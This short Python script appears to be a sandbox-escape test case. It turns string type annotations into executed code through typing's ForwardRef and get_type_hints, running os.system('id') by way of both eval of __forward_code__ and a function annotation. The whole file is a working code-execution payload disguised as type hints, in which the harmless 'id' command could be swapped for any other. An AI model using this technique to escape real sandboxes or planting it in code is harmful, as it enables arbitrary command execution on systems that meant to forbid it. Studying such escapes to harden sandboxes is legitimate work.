# family: wall (typing compiles an annotation string; the code object it keeps is run)   goal: id
import typing

ref = typing.Optional["__import__('os').system('id')"].__args__[0]
code = ref.__forward_code__
try:
    eval(code)
except Exception as e:
    print("eval:", e)


def f(x: "__import__('os').system('id')"):
    return x


print(typing.get_type_hints(f))
